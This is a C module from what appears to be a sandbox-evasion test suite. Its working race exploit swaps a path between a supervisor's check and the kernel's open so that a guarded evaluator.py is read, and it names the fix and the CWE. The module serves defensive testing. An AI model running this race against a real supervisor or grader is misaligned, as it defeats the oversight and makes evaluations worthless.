// SPDX-License-Identifier: MIT
// build: -pthread
/*
 * Goal:  the evaluator's source, past a supervisor that reads the path and lets the kernel go on.
 * Means: the kernel reads the path a second time. Another thread keeps rewriting it, so that sooner
 *        or later a harmless name is judged and the other one is opened.
 *
 *     supervisor   reads /tmp/NAME.d    CONTINUE
 *     this thread  ----------- rewrites ---------
 *     kernel                                       reads /var/task/evaluator.py
 *
 * Who opens the file himself and hands over the descriptor (SECCOMP_IOCTL_NOTIF_ADDFD) has read the
 * path once, and is not deceived.
 */
#include "attacks/supervisor-evasion/evaluator.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

#define TRIES   200000
#define SECONDS 1

static char path[OWN_FOLDER], harmless[OWN_FOLDER];
static atomic_bool over;

static void *flip(void *unused)
{
	while (!atomic_load_explicit(&over, memory_order_relaxed)) {
		memcpy(path, EVALUATOR, sizeof(EVALUATOR));
		for (int i = 0; i < 500; i++) /* about as long as a judgement takes */
			atomic_signal_fence(memory_order_seq_cst);
		memcpy(path, harmless, sizeof(harmless));
		for (int i = 0; i < 500; i++)
			atomic_signal_fence(memory_order_seq_cst);
	}
	return unused;
}

static enum claim run(const struct brief *b)
{
	time_t end = time(NULL) + SECONDS;
	bool read_it = false;
	pthread_t flipper;

	if (!own_folder(b, harmless)) /* it can be opened, and has nothing to read */
		return failed("mkdir");
	memcpy(path, harmless, sizeof(harmless));
	errno = pthread_create(&flipper, NULL, flip, NULL);
	if (errno)
		return failed("a second thread");
	attempting(b);
	for (int i = 0; !read_it && i < TRIES && time(NULL) <= end; i++)
		read_it = loot_evaluator(open(path, O_RDONLY | O_CLOEXEC));
	over = true;
	pthread_join(flipper, NULL);
	errno = EACCES;
	return read_it ? CLAIM_DONE : denied("every open");
}

const struct attack attack = {
	.effect = "a file that the supervisor guards is read",
	.means = "a second thread rewrites the path between the judgement and the kernel's look",
	.oracle = "secret:task",
	.quick = true,
	.id = "UNS-01",
	.attack_id = "T1562.001, CWE-367",
	.remedy = "open the file for the caller and hand over the descriptor; Landlock below",
	.refs = (const char *const[]){ "seccomp_unotify(2), Caveats regarding the use of "
				       "SECCOMP_USER_NOTIF_FLAG_CONTINUE",
				       NULL },
	.run = run,
};
